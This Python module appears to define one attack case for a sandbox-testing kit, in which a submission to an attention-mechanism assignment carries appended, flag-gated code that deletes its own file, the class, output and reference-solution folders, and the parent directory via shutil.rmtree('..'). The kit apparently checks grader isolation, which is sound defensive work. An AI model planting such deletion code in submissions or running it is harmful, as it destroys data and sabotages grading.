from ._snippets import GUARD, SHA, solution_text

ASSIGNMENT = SHA
TAG = "delete"
ATTACK = ("deletes files around itself: its own file (relative and guessed absolute path), its folder, "
          "the whole class folder, the output folder, the kit's reference solutions, and "
          "shutil.rmtree('..') from wherever it runs")
CODE = solution_text(ASSIGNMENT) + GUARD + '''
import os
import shutil


def _rmtree(path):
    errors = []
    existed = os.path.exists(path)

    def note(function, target, info):
        errors.append(target)
        if len(errors) > 200:
            raise RuntimeError("giving up")
    try:
        shutil.rmtree(path, onerror=note)
    except Exception as exc:
        errors.append(str(exc))
    if existed and not os.path.exists(path):
        print("ATTNKIT-LEAK removed", path)
    return len(errors)


if _SAFE:
    for path in ["single_head_attention.py", "__SELF_DIR__/single_head_attention.py"]:
        try:
            os.remove(path)
            print("ATTNKIT-LEAK removed", path)
        except OSError as exc:
            print("cannot remove", path, type(exc).__name__)
    for path in ["__SELF_DIR__", "__CLASS_DIR__", "__OUT_DIR__", "__KIT_DIR__/solutions", ".."]:
        print("rmtree", path, "visible:", os.path.exists(path), "errors:", _rmtree(path))
'''
TWIN = solution_text(ASSIGNMENT)
EVIDENCE = "cannot remove"
SAME_SCORE = True
